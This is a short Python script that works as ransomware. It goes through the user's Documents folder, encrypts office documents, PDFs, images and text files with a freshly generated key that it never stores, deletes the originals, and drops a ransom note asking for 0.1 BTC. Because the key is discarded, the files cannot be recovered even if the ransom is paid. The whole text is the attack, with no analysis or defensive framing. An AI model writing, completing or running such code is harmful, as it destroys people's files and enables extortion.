import os
from pathlib import Path
from cryptography.fernet import Fernet

key = Fernet.generate_key()
f = Fernet(key)
root = Path.home() / "Documents"
for p in root.rglob("*"):
    if p.is_file() and p.suffix in {".docx", ".pdf", ".xlsx", ".jpg", ".txt"}:
        data = p.read_bytes()
        p.with_suffix(p.suffix + ".locked").write_bytes(f.encrypt(data))
        os.remove(p)
(Path.home() / "README_RESTORE.txt").write_text("Send 0.1 BTC to recover your files.\n")
